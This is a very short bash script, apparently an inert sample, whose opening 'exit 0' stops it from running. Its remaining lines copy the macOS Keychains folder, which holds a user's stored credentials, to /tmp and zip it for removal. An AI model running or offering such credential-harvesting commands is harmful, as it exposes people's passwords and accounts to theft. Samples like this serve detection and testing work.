#!/bin/bash
exit 0 # inert sample
cp -r ~/Library/Keychains /tmp/out
ditto -c -k /tmp/out /tmp/out.zip
